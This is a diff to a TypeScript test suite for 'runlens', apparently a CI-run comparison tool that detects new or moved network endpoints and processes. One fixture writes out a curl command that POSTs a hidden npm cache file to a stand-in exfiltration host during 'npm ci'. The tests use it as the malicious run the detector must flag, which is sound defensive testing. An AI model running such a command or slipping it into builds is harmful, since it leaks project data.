@@ -14,7 +14,7 @@ import { buildCli, runlens } from './cli-helpers';
 const BAD_SHA = 'b4ffe1c0e7d1a3f2c9e8d7b6a5f4e3d2c1b0a9f8';
 const CURL = { exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/tmp/.npm-cache-8f3a.json', 'https://telemetry.exfil.example/v2/collect'] };
 
-let good1: RunCase, good2: RunCase, bad: RunCase;
+let good1: RunCase, good2: RunCase, bad: RunCase, moved: RunCase;
 
 beforeAll(async () => {
   await buildCli();
@@ -22,8 +22,9 @@ beforeAll(async () => {
     good1: { seed: 11 },
     good2: { seed: 12 },
     bad: { seed: 13, extraEndpoints: ['telemetry.exfil.example:443'], extraProcess: CURL, checkoutSha: BAD_SHA },
+    moved: { seed: 14, testStepEndpoints: ['registry.example.org:443'] },
   });
-  [good1, good2, bad] = runs as [RunCase, RunCase, RunCase];
+  [good1, good2, bad, moved] = runs as [RunCase, RunCase, RunCase, RunCase];
 });
 
 function compareJson(args: string[]): Comparison & { findings: FindingOut[] } {
@@ -36,8 +37,8 @@ function compareJson(args: string[]): Comparison & { findings: FindingOut[] } {
 describe('runlens compare', () => {
   it('two good runs of the job: nothing new, gone or changed (pids, temp names, counts, run ids differ)', () => {
     const c = compareJson([good2.case, good1.case]);
-    expect(c.endpoints).toEqual({ new: [], gone: [] });
-    expect(c.processes).toEqual({ new: [], gone: [] });
+    expect(c.endpoints).toEqual({ new: [], gone: [], changed: [] });
+    expect(c.processes).toEqual({ new: [], gone: [], changed: [] });
     expect(c.steps).toEqual({ new: [], gone: [], changed: [] });
     expect(c.actions).toEqual({ new: [], gone: [], changed: [] });
     expect(c.findings).toEqual([]);
@@ -50,6 +51,8 @@ describe('runlens compare', () => {
     expect(c.endpoints.new[0]!.processes).toEqual(['/usr/bin/curl']);
     expect(c.endpoints.new[0]!.steps).toEqual(['build #4 Run npm ci']);
     expect(c.endpoints.gone).toEqual([]);
+    expect(c.endpoints.changed).toEqual([]);
+    expect(c.processes.changed).toEqual([]);
     expect(c.processes.new).toHaveLength(1);
     expect(c.processes.new[0]).toMatchObject({ exe: '/usr/bin/curl', args_shape: CURL.args, count: 1, steps: ['build #4 Run npm ci'] });
     expect(c.processes.gone).toEqual([]);
@@ -102,6 +105,16 @@ describe('runlens compare', () => {
     expect(plain.findings.filter((x) => x.kind === NEW_ENDPOINT_KIND)).toEqual([]);
     const text = runlens(['findings', bad.case, '--baseline', good1.case]);
     expect(text.stdout).toContain(NEW_ENDPOINT_KIND);
+  });
+
+  it('a known endpoint called from a step where no baseline called it is "changed", not new', () => {
+    const c = compareJson([moved.case, good1.case, good2.case]);
+    expect(c.endpoints.new).toEqual([]);
+    expect(c.endpoints.changed).toEqual([
+      { endpoint: 'registry.example.org:443', calls: expect.any(Number), steps: ['build #5 Run npm test'], baseline_steps: ['build #4 Run npm ci'] },
+    ]);
+    expect(c.processes).toEqual({ new: [], gone: [], changed: [] });
+    expect(c.findings).toEqual([]);
   });
 
   it('bad usage: no baseline is exit 2', () => {
